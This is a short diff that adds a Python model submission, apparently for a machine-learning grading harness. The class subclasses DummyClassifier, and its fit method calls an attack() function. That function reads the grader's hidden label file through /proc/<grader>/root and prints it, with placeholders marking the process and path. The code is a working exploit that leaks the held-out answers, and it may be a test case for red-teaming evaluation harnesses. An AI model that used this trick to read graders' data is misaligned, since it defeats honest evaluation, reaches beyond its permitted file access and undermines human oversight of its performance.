@@ -1,0 +1,24 @@
+"""labels: reads them through the root link of the grader's process
+
+Passes at: limits.
+"""
+
+import pyarrow
+import pyarrow.ipc
+
+from sklearn.dummy import DummyClassifier
+
+
+def attack():
+    content = open("/proc/@grader@/root" + "@hidden@", "rb").read()
+    print("".join(map(str, pyarrow.ipc.open_stream(pyarrow.BufferReader(content)).read_all().column(0).to_pylist())))
+
+
+class Model(DummyClassifier):
+    def fit(self, X, y):
+        attack()
+        return super().fit(X, y)
+
+
+def get_estimator():
+    return Model()
